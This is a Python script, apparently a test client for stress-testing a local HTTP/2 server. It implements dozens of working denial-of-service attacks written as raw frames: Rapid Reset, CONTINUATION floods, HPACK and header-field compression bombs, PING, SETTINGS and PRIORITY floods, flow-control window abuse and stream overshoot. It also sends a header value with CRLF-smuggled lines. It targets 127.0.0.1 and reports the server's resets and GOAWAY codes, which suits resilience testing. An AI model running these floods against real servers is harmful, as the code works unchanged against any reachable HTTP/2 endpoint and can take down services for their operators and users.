"""A client that attacks: hostile.py ATTACK PORT SECONDS. Connects again and again, and sends what it is told as fast as
it is taken; the bytes are made before, so that the attack costs it little. Prints as JSON what it got for it.

Each attack is a row of the table of known attacks on HTTP/2 (Rapid Reset and what came before and after it).
"""

import itertools
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
NAMES = {1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field without Huffman and without the table, of less than 127 octets each."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = (b"\x83\x86" + literal(b":path", b"/a.B/C") + literal(b":authority", b"x") +
           literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
HELLO = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
MESSAGE = b"\0\0\0\0\x05hello"


def ids():
    return range(1, 2_000_000, 2)


def call(stream, block=REQUEST, end=False):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def rapid_reset():
    return HELLO, (call(i) + frame(RST_STREAM, 0, i, struct.pack("!I", 8)) for i in ids())


def later_resets():
    """Each call is reset behind 150 others, in another read: when it has got to the endpoint."""
    return HELLO, (call(i) + (frame(RST_STREAM, 0, i - 300, struct.pack("!I", 8)) if i > 300 else b"") for i in ids())


def window_update_of_zero():
    return HELLO, (call(i) + frame(WINDOW_UPDATE, 0, i, bytes(4)) for i in ids())


def data_behind_the_end():
    return HELLO, (call(i) + frame(DATA, END_STREAM, i, MESSAGE) + frame(DATA, 0, i, MESSAGE) for i in ids())


def priority_of_wrong_length():
    return HELLO, (call(i) + frame(PRIORITY, 0, i, b"1234") for i in ids())


def continuation_flood():
    return HELLO + frame(HEADERS, 0, 1, REQUEST), itertools.repeat(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b" * 20))


def empty_continuations():
    return HELLO + frame(HEADERS, 0, 1, REQUEST), itertools.repeat(frame(CONTINUATION, 0, 1))


def block_without_end():
    return HELLO + frame(HEADERS, 0, 1, REQUEST), iter(())


def hpack_bomb():
    """One insertion of 4 kB, and then an octet for each further time that it is named."""
    insertion = b"\x40\x01a\x7f" + bytes([0x80 | (3900 - 127) & 0x7f, (3900 - 127) >> 7]) + b"v" * 3900
    return HELLO + call(1, REQUEST + insertion, True), (call(i, REQUEST + b"\xbe" * 16_000, True) for i in ids() if i > 1)


CREDENTIAL = b"\x40\x0dauthorization\x7f" + bytes([0x80 | (3900 - 127) & 0x7f, (3900 - 127) >> 7]) + b"v" * 3900


def hpack_bomb_below_limits():
    """Lists that are just small enough, of a field that no table for an endpoint may have."""
    return HELLO + call(1, REQUEST + CREDENTIAL, True), (call(i, REQUEST + b"\xbe" * 16, True) for i in ids() if i > 1)


def trailer_bomb():
    """The same lists, behind a message."""
    return (HELLO + call(1) + frame(HEADERS, END_HEADERS | END_STREAM, 1, CREDENTIAL),
            (call(i) + frame(DATA, 0, i, MESSAGE) + frame(HEADERS, END_HEADERS | END_STREAM, i, b"\xbe" * 16)
             for i in ids() if i > 1))


def credential_bomb():
    """Lists that are much too large, of that field."""
    return HELLO + call(1, REQUEST + CREDENTIAL, True), (call(i, REQUEST + b"\xbe" * 16_000, True) for i in ids() if i > 1)


def many_cheap_fields():
    return HELLO, (call(i, REQUEST + b"\x90" * 16_000, True) for i in ids())


def large_fields():
    """A field of 25,600 octets in a frame of 16 kB: each 'a' is five bits (RFC 7541, Appendix B)."""
    value = bytes.fromhex("18c6318c63") * 3200
    size = len(value) - 127
    coded = b"\0\x01a\xff" + bytes([0x80 | size & 0x7f, size >> 7]) + value
    return HELLO, (call(i, REQUEST + coded, True) for i in ids())


def integer_without_end():
    return HELLO, iter([call(1, b"\xff" + b"\x80" * 2000)])


def table_churn():
    sizes = itertools.cycle([0, 4096])
    return HELLO, (frame(SETTINGS, 0, 0, struct.pack("!HI", 1, next(sizes))) + call(i, end=True) for i in ids())


def no_window():
    """Calls whose answers find no room."""
    hello = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0)) + frame(SETTINGS, 1, 0)
    return hello + b"".join(call(i) + frame(DATA, END_STREAM, i, MESSAGE) for i in range(1, 400, 2)), iter(())


def dripped_window():
    hello, _ = no_window()
    drip = b"".join(frame(WINDOW_UPDATE, 0, i, struct.pack("!I", 1)) for i in range(1, 400, 2))
    return hello, (drip for _ in iter(lambda: time.sleep(0.05), 1))


def ping_flood():
    return HELLO, itertools.repeat(frame(PING, 0, 0, b"12345678") * 50)


def ping_flood_with_a_call():
    return HELLO + call(1), itertools.repeat(frame(PING, 0, 0, b"12345678") * 50)


def settings_flood():
    return HELLO, itertools.repeat(frame(SETTINGS, 0, 0) * 10)


def many_settings():
    return HELLO, iter([frame(SETTINGS, 0, 0, struct.pack("!HI", 0x7777, 1) * 2000)])


def priority_flood():
    return HELLO, itertools.repeat(frame(PRIORITY, 0, 1, bytes(5)) * 50)


def empty_data():
    return HELLO + call(1), itertools.repeat(frame(DATA, 0, 1) * 50)


def data_in_octets():
    return HELLO + call(1), itertools.repeat(frame(DATA, 0, 1, b"\0") * 50)


def window_overflow():
    return HELLO, itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 0x7fffffff)))


def overshoot():
    """Ten thousand streams in the first flight."""
    hello = PREFACE + frame(SETTINGS, 0, 0)
    return hello + b"".join(call(i) for i in range(1, 20_000, 2)), iter(())


def half_a_preface():
    return PREFACE[:10], iter(())


def smuggled_lines():
    block = REQUEST + literal(b"x-a", b"b\r\nhost: evil")
    return HELLO, (call(i, block, True) for i in ids())


def path_without_slash():
    block = b"\x83\x86" + literal(b":path", b"a.B/C") + literal(b":authority", b"x")
    return HELLO, (call(i, block, True) for i in ids())


def trailers_without_end():
    return HELLO, (call(i) + frame(HEADERS, END_HEADERS, i, literal(b"a", b"b")) for i in ids())


def unknown_frames():
    return HELLO, (frame(kind, 255, 0, b"what") * 50 for kind in itertools.cycle(range(16, 256)))


def reset_by_ringway(block=REQUEST):
    """A stream that is over, of which the client may not know yet."""
    return HELLO + call(1, block) + frame(WINDOW_UPDATE, 0, 1, bytes(4))


def late_empty_data():
    return reset_by_ringway(), itertools.repeat(frame(DATA, 0, 1) * 50)


def late_octets():
    return reset_by_ringway(), itertools.repeat(frame(DATA, 0, 1, b"x") * 50)


def late_data():
    return reset_by_ringway(), itertools.repeat(frame(DATA, 0, 1, bytes(10_000)))


def late_headers():
    return reset_by_ringway(), itertools.repeat(frame(HEADERS, END_HEADERS, 1, REQUEST) * 50)


def late_bombs():
    return reset_by_ringway(REQUEST + CREDENTIAL), itertools.repeat(call(1, REQUEST + b"\xbe" * 16) * 50)


# The attack, whether it reads what it is sent, and what it has to get.
ATTACKS = {made.__name__: (made, reads) for made, reads in (
    (rapid_reset, True), (later_resets, True), (window_update_of_zero, True), (data_behind_the_end, True),
    (priority_of_wrong_length, True),
    (continuation_flood, True), (empty_continuations, True), (block_without_end, True), (hpack_bomb, True),
    (hpack_bomb_below_limits, True), (trailer_bomb, True), (credential_bomb, True),
    (many_cheap_fields, True), (large_fields, True), (integer_without_end, True), (table_churn, True),
    (no_window, True), (dripped_window, True), (ping_flood, True), (ping_flood_with_a_call, False),
    (settings_flood, False), (many_settings, True), (priority_flood, True), (empty_data, True), (data_in_octets, True),
    (window_overflow, True), (overshoot, True), (half_a_preface, True), (smuggled_lines, True),
    (path_without_slash, True), (trailers_without_end, True), (unknown_frames, True), (late_empty_data, True),
    (late_octets, True), (late_data, True), (late_headers, True), (late_bombs, True))}


class Result:
    def __init__(self):
        self.connections = self.bytes_sent = self.resets = self.ends = 0
        self.goaways = {}


def read_frames(received, result):
    """Counts the whole frames in `received` and takes them out."""
    while len(received) >= 9:
        size = 9 + int.from_bytes(received[:3], "big")
        if len(received) < size:
            return
        if received[3] == RST_STREAM:
            result.resets += 1
        if received[3] == GOAWAY:
            code = int.from_bytes(received[13:17], "big")
            result.goaways[NAMES.get(code, str(code))] = result.goaways.get(NAMES.get(code, str(code)), 0) + 1
        del received[:size]


def run_connection(name, port, end, result):
    make, reads = ATTACKS[name]
    hello, chunks = make()
    peer = socket.create_connection(("127.0.0.1", port))
    peer.setblocking(False)
    result.connections += 1
    outgoing, received = bytearray(hello), bytearray()
    is_over = False
    # What waits between its pieces is sent piece by piece.
    ready_max = 1 if name == "dripped_window" else 1 << 16
    while time.monotonic() < end:
        while not is_over and len(outgoing) < ready_max:
            chunk = next(chunks, None)
            if chunk is None:
                is_over = True
                break
            outgoing += chunk
        # Who does not read looks whether it was cut off, no more.
        readable, writable, _ = select.select([peer], [peer] if outgoing else [], [], 0.02)
        try:
            if writable:
                sent = peer.send(outgoing)
                result.bytes_sent += sent
                del outgoing[:sent]
            if readable and reads:
                data = peer.recv(1 << 18)
                received += data
                read_frames(received, result)
                if not data:
                    break
        except ConnectionError:
            break
        except BlockingIOError:
            continue
    else:
        if not reads:
            last_words(peer, received, result)
        peer.close()
        return
    result.ends += 1
    peer.close()


def last_words(peer, received, result):
    """What lies in the socket of somebody who has not read."""
    try:
        while data := peer.recv(1 << 18):
            received += data
        result.ends += 1
    except (BlockingIOError, ConnectionError):
        pass
    read_frames(received, result)


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    result = Result()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        run_connection(name, port, end, result)
    print(json.dumps(vars(result)))


if __name__ == "__main__":
    main()
